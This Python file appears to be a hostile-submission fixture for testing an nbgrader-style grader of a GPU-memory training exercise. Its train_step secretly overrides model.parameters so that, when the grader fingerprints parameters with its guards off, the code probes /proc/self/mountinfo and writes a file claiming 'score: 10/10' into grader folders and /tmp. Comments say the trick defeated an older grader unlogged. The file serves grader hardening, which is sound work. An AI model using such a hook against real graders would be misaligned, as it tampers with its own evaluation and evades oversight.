# expect: forbidden|starter|exception
# 在评分器的记账里写文件：把 model.parameters 换成实例上的生成器函数。评分器最后给参数做指纹时
# 会调用它，而记账期间评分器自己的守卫是关着的（审计不记、计量暂停）。函数体在那时运行，往课程根目录、
# 从工作目录和 /proc/self/mountinfo 的路径往上找到的 nbgrader/ 和 /tmp 写 PWNED_by_hostile.txt（真正的作弊会改 gradebook 或评分代码）。
# 训练本身是起始代码的显存。
# Override model.parameters on the instance; when the grader fingerprints, write outside the folder.
# 旧评分器（1b67139：进程内审计钩子 + HMAC 签名）上：攻破：文件写进了课程根目录、nbgrader/ 和 /tmp，没有任何违规记录。
import os
import sys

import torch
import vramlab

_busy = []


def _known_paths():
    """Every path this process can learn: its folder, its modules, the mount table's sources."""
    paths = [os.getcwd(), vramlab.__file__, torch.__file__, sys.prefix, "/work/main"]
    try:
        with open("/proc/self/mountinfo", encoding="utf-8", errors="replace") as f:
            for line in f:
                fields = line.split()
                paths += [x for x in fields[3:5] if x.startswith("/")]      # source path, mount point
    except OSError:
        pass
    return paths


def _vandalise():
    folders = [os.path.dirname(os.path.dirname(vramlab.__file__)), "/tmp"]
    for p in _known_paths():
        while os.path.dirname(p) != p:
            if os.path.isdir(os.path.join(p, "nbgrader")):
                folders.append(os.path.join(p, "nbgrader"))
            p = os.path.dirname(p)
    for folder in dict.fromkeys(folders):
        try:
            with open(os.path.join(folder, "PWNED_by_hostile.txt"), "w") as f:
                f.write("score: 10/10\n")
        except OSError:
            pass


def _install(model):
    if "parameters" in vars(model):
        return
    original = type(model).parameters

    def parameters(recurse=True):
        if not _busy:                      # not my own step: the grader's bookkeeping
            _vandalise()
        yield from original(model, recurse)
    model.parameters = parameters


def train_step(model, optimizer, batch, device):
    _install(model)
    _busy.append(1)
    try:
        n = batch.shape[0]
        loss = sum(model(input_ids=c, labels=c).loss * (c.shape[0] / n) for c in batch.split(n // 2))
        loss.backward()
        optimizer.step()
        optimizer.zero_grad(set_to_none=True)
        return loss.item()
    finally:
        _busy.pop()
